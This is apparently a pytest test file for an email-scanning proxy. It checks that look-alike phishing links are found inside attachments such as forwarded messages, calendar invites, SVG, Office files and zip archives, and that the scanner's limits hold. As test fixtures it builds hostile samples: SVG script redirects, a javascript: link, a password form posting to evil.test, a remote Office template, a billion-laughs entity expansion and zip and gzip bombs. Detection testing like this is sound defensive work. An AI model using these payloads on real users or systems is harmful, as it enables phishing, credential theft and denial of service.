"""Links inside attachments: attached messages, invites, SVG, Office relationships, text files,
zip members; and the limits that keep hostile containers bounded without making them cleaner."""

from __future__ import annotations

import gzip
import io
import time
import zipfile

import pytest

from popproxy.scan.containers import looks_like_message
from popproxy.scan.zips import MAX_MEMBERS_READ, MAX_NESTING
from tests.scan.helpers import build, names, scan

_BAD = "https://paypa1.example/login"  # a look-alike host: link-brand-lookalike when judged
_LOOKALIKE = "link-brand-lookalike"


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _inner_message(url: str = _BAD) -> bytes:
    return build(html=f'<p>Your account</p><a href="{url}">Open</a>', subject="inner")


def _with(name: str, data: bytes, mime: str = "application/octet-stream") -> set[str]:
    return names(scan(build(text="see attached", attachments=((name, data, mime),))))


def _timed(name: str, data: bytes, mime: str = "application/octet-stream") -> set[str]:
    start = time.monotonic()
    got = _with(name, data, mime)
    assert time.monotonic() - start < 3.0
    return got


# --- attached messages ---------------------------------------------------------------------


def test_eml_attached_as_octet_stream_is_walked() -> None:
    assert _LOOKALIKE in _with("fwd.eml", _inner_message())


def test_message_content_under_any_name_is_walked() -> None:
    assert _LOOKALIKE in _with("data.bin", _inner_message())


def test_base64_message_rfc822_is_decoded_and_walked() -> None:
    # EmailMessage.add_attachment sends message/rfc822 base64 (RFC 2046 forbids it, clients
    # decode it anyway); the parser read the base64 text as the message.
    assert _LOOKALIKE in _with("fwd.eml", _inner_message(), "message/rfc822")


def test_clean_attached_message_stays_clean() -> None:
    got = _with("fwd.eml", _inner_message("https://www.example.com/"))
    assert not {_LOOKALIKE, "limit-container"} & got


def test_messages_nested_past_the_limit_are_a_limit() -> None:
    message = _inner_message()
    for _ in range(MAX_NESTING + 1):
        message = build(text="fwd", attachments=(("fwd.eml", message, "application/octet-stream"),))
    assert "limit-container" in _timed("fwd.eml", message)


def test_sniffing_needs_a_mail_header() -> None:
    assert looks_like_message(b"From: a@example.org\r\nTo: b@example.net\r\nSubject: x\r\n\r\nhi")
    assert not looks_like_message(b"From: a@example.org\r\nthis is prose, no header\r\n")
    assert not looks_like_message(b"Subject: x\r\nDate: y\r\n\r\n")  # no From


# --- calendar invites ----------------------------------------------------------------------

_ICS = (
    "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//test//EN\r\nBEGIN:VEVENT\r\n"
    "UID:1@example.org\r\nDTSTAMP:20260101T000000Z\r\nSUMMARY:Review\r\n{prop}\r\n"
    "END:VEVENT\r\nEND:VCALENDAR\r\n"
)


@pytest.mark.parametrize(
    "prop",
    [
        f"URL:{_BAD}",
        "LOCATION:https://paypa1.\r\n example/login",  # folded in the middle of the host
        f"DESCRIPTION:Join here: {_BAD}\\, today",
        f"ATTACH;FMTTYPE=application/pdf:{_BAD}",
        f'X-ALT-DESC;FMTTYPE=text/html:<a href="{_BAD}">Join</a>',
    ],
)
def test_invite_links_are_judged(prop: str) -> None:
    ics = _ICS.format(prop=prop).encode()
    assert _LOOKALIKE in _with("invite.ics", ics, "text/calendar")


def test_invite_sniffed_under_another_type() -> None:
    ics = _ICS.format(prop=f"URL:{_BAD}").encode()
    assert _LOOKALIKE in _with("meeting.dat", ics)


def test_inline_calendar_part_is_judged() -> None:
    ics = _ICS.format(prop=f"LOCATION:{_BAD}")
    message = (
        "From: a@example.org\r\nTo: b@example.net\r\nSubject: Invite\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/alternative; boundary="b"\r\n\r\n--b\r\n'
        "Content-Type: text/plain\r\n\r\nMeeting\r\n--b\r\n"
        "Content-Type: text/calendar; method=REQUEST\r\n\r\n" + ics + "\r\n--b--\r\n"
    ).encode()
    assert _LOOKALIKE in names(scan(message))


def test_honest_invite_raises_nothing() -> None:
    ics = _ICS.format(prop="LOCATION:https://meet.google.com/abc-defg-hij").encode()
    assert not _with("invite.ics", ics, "text/calendar")


def test_invite_with_100k_properties_is_bounded_and_not_cleaner() -> None:
    lines = "".join(f"X-PAD-{i}:x\r\n" for i in range(100_000))
    ics = _ICS.format(prop=lines + f"URL:{_BAD}").encode()
    got = _timed("invite.ics", ics, "text/calendar")
    assert {"limit-container", _LOOKALIKE} <= got


# --- SVG ------------------------------------------------------------------------------------

_SVG = (
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"><rect width="10" height="10"/>{body}</svg>'
)


def test_svg_script_redirect_is_judged() -> None:
    svg = _SVG.format(body=f"<script>window.location.href = '{_BAD}';</script>").encode()
    got = _with("invoice.svg", svg, "image/svg+xml")
    assert {"attach-html-script", _LOOKALIKE} <= got


def test_svg_xlink_anchor_is_judged() -> None:
    svg = _SVG.format(body=f'<a xlink:href="{_BAD}"><text>Open</text></a>').encode()
    assert _LOOKALIKE in _with("invoice.svg", svg, "image/svg+xml")


def test_svg_animation_setting_a_script_link_is_judged() -> None:
    body = '<a><set attributeName="href" to="javascript:alert(1)"/><text>Open</text></a>'
    assert "link-script-scheme" in _with("invoice.svg", _SVG.format(body=body).encode())


def test_svg_animation_setting_a_web_link_is_judged() -> None:
    body = f'<a><animate attributeName="xlink:href" values="#a;{_BAD}"/><text>Go</text></a>'
    assert _LOOKALIKE in _with("invoice.svg", _SVG.format(body=body).encode(), "image/svg+xml")


def test_svg_sent_as_octet_stream_without_a_name_extension() -> None:
    svg = _SVG.format(body=f"<script>location='{_BAD}'</script>").encode()
    assert {"attach-html", "attach-html-script", _LOOKALIKE} <= _with("invoice", svg)


def test_page_sent_as_octet_stream_is_judged_as_a_page() -> None:
    page = b'<html><body><form action="https://evil.test/p"><input type="password"></form>'
    assert "attach-html-form" in _with("statement", page)


def test_compressed_svg_is_judged() -> None:
    svg = gzip.compress(_SVG.format(body=f"<script>location='{_BAD}'</script>").encode())
    assert {"attach-html-script", _LOOKALIKE} <= _with("invoice.svgz", svg, "image/svg+xml")


def test_svgz_bomb_is_bounded() -> None:
    bomb = gzip.compress(b" " * (64 * 1024 * 1024))
    assert "limit-container" in _timed("pic.svgz", bomb, "image/svg+xml")


# --- Office relationships ------------------------------------------------------------------

_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{rels}</Relationships>"
)
_REL = '<Relationship Id="rId{n}" Type="{kind}" Target="{target}" TargetMode="External"/>'
_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _docx(rels: str) -> bytes:
    return _zip({
        "[Content_Types].xml": b"<Types/>",
        "word/document.xml": b"<w:document/>",
        "word/_rels/document.xml.rels": _RELS.format(rels=rels).encode(),
    })


def test_docx_external_hyperlink_is_judged() -> None:
    rels = _REL.format(n=1, kind=_TYPES + "hyperlink", target=_BAD)
    assert _LOOKALIKE in _with("report.docx", _docx(rels))


def test_docx_remote_template_is_a_signal() -> None:
    rels = _REL.format(n=1, kind=_TYPES + "attachedTemplate", target="https://evil.test/t.dotm")
    assert "attach-office-remote-load" in _with("report.docx", _docx(rels))


def test_docx_local_template_is_no_signal() -> None:
    target = "file:///C:/Users/x/AppData/Roaming/Microsoft/Templates/Normal.dotm"
    rels = _REL.format(n=1, kind=_TYPES + "attachedTemplate", target=target)
    assert "attach-office-remote-load" not in _with("report.docx", _docx(rels))


def test_rels_with_entity_expansion_is_refused_quickly() -> None:
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY a{i} "{"&a;" * 10 if i == 0 else f"&a{i - 1};" * 10}">'
                  for i in range(9))
        + ']><Relationships><Relationship Target="&a8;" TargetMode="External"/></Relationships>'
    )
    docx = _zip({
        "[Content_Types].xml": b"<Types/>",
        "word/document.xml": b"<w:document/>",
        "word/_rels/document.xml.rels": laughs.encode(),
    })
    _timed("report.docx", docx)


# --- text attachments ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "mime"),
    [
        ("notes.txt", "text/plain"),
        ("list.csv", "text/csv"),
        ("notes.txt", "application/octet-stream"),
        ("link.url", "application/octet-stream"),
    ],
)
def test_text_attachment_links_are_judged(name: str, mime: str) -> None:
    data = f"[InternetShortcut]\r\nURL={_BAD}\r\nsee {_BAD}\r\n".encode()
    assert _LOOKALIKE in _with(name, data, mime)


# --- zip archives --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("member", "data"),
    [
        ("page.html", f'<a href="{_BAD}">Open</a>'.encode()),
        ("fwd.eml", _inner_message()),
        ("invite.ics", _ICS.format(prop=f"URL:{_BAD}").encode()),
        ("readme.txt", f"visit {_BAD}".encode()),
        ("pic.svg", _SVG.format(body=f"<script>location='{_BAD}'</script>").encode()),
    ],
)
def test_zip_member_links_are_judged(member: str, data: bytes) -> None:
    assert _LOOKALIKE in _with("files.zip", _zip({f"dir/{member}": data}), "application/zip")


def test_docx_in_zip_is_judged() -> None:
    docx = _docx(_REL.format(n=1, kind=_TYPES + "hyperlink", target=_BAD))
    assert _LOOKALIKE in _with("files.zip", _zip({"report.docx": docx}), "application/zip")


def test_zip_in_zip_is_opened() -> None:
    inner = _zip({"readme.txt": f"visit {_BAD}".encode()})
    got = _with("files.zip", _zip({"inner.zip": inner}), "application/zip")
    assert _LOOKALIKE in got
    assert "limit-container" not in got


def test_zips_nested_past_the_limit_are_a_limit() -> None:
    archive = _zip({"readme.txt": f"visit {_BAD}".encode()})
    for _ in range(MAX_NESTING + 1):
        archive = _zip({"inner.zip": archive})
    assert "limit-container" in _timed("files.zip", archive, "application/zip")


def test_zip_bomb_member_is_bounded_and_a_limit() -> None:
    bomb = _zip({"bomb.txt": b"\0" * (64 * 1024 * 1024)})
    assert len(bomb) < 1024 * 1024
    assert "limit-container" in _timed("bomb.zip", bomb, "application/zip")


def test_too_many_members_are_a_limit() -> None:
    members = {f"m{i}.txt": b"hello" for i in range(MAX_MEMBERS_READ + 1)}
    assert "limit-container" in _timed("many.zip", _zip(members), "application/zip")


def test_huge_member_list_is_not_opened() -> None:
    # 40 members with 60 KB names: a 2.4 MB central directory.
    members = {("n" * 60_000) + f"{i}.txt": b"x" for i in range(40)}
    data = _zip(members, zipfile.ZIP_STORED)
    assert "limit-container" in _timed("names.zip", data, "application/zip")


def test_harmless_zip_raises_nothing() -> None:
    data = _zip({"photo.jpg": b"\xff\xd8\xff" + b"\0" * 100, "readme.txt": b"hello"})
    assert not _with("photos.zip", data, "application/zip")


def test_broken_zip_is_not_an_error() -> None:
    verdict = scan(build(attachments=(("x.zip", b"PK\x03\x04garbage", "application/zip"),)))
    assert verdict.action != "unscanned"



def test_invite_with_a_line_of_many_parameters_is_bounded() -> None:
    prop = "X-PAD" + ";P=1" * 200_000 + f":x\r\nURL:{_BAD}"
    got = _timed("invite.ics", _ICS.format(prop=prop).encode(), "text/calendar")
    assert {"limit-container", _LOOKALIKE} <= got


def test_relationship_part_bomb_is_bounded() -> None:
    rels = _REL.format(n=1, kind=_TYPES + "hyperlink", target=_BAD)
    padding = " " * (64 * 1024 * 1024)
    docx = _zip({
        "[Content_Types].xml": b"<Types/>",
        "word/document.xml": b"<w:document/>",
        "word/_rels/document.xml.rels": _RELS.format(rels=rels + padding).encode(),
    })
    assert "limit-container" in _timed("report.docx", docx)


def test_quoted_printable_message_rfc822_is_decoded_and_walked() -> None:
    inner = (
        "From: a@example.org\r\nTo: b@example.net\r\nSubject: inner\r\n"
        "Content-Type: text/html\r\n\r\n"
        f'<p>Account</p><a href=3D"{_BAD}">Op=\r\nen</a>\r\n'
    )
    message = (
        "From: c@example.org\r\nTo: b@example.net\r\nSubject: fwd\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n'
        "Content-Type: text/plain\r\n\r\nsee attached\r\n--b\r\n"
        "Content-Type: message/rfc822\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
        + inner + "--b--\r\n"
    ).encode()
    assert _LOOKALIKE in names(scan(message))


def test_many_invites_are_bounded_and_a_limit() -> None:
    pad = "".join(f"X-PAD-{i}:{'x' * 60}\r\n" for i in range(1900))
    ics = _ICS.format(prop=pad + f"URL:{_BAD}").encode()
    attachments = tuple((f"i{n}.ics", ics, "text/calendar") for n in range(60))
    start = time.monotonic()
    got = names(scan(build(text="invites", attachments=attachments)))
    assert time.monotonic() - start < 4.0
    assert {"limit-container", _LOOKALIKE} <= got


def test_many_archives_are_bounded_and_a_limit() -> None:
    archive = _zip({"readme.txt": b"hello"})
    attachments = tuple((f"a{n}.zip", archive, "application/zip") for n in range(80))
    assert "limit-container" in names(scan(build(text="files", attachments=attachments)))


def test_zip_of_costly_markup_is_bounded_and_a_limit() -> None:
    # A few kilobytes of zip inflating to megabytes of markup that is costly to parse.
    archive = _zip({f"m{i}.html": b"<p>" * (300 * 1024) for i in range(8)})
    assert len(archive) < 256 * 1024
    start = time.process_time()
    got = _with("x.zip", archive, "application/zip")
    assert time.process_time() - start < 3.0
    assert "limit-container" in got
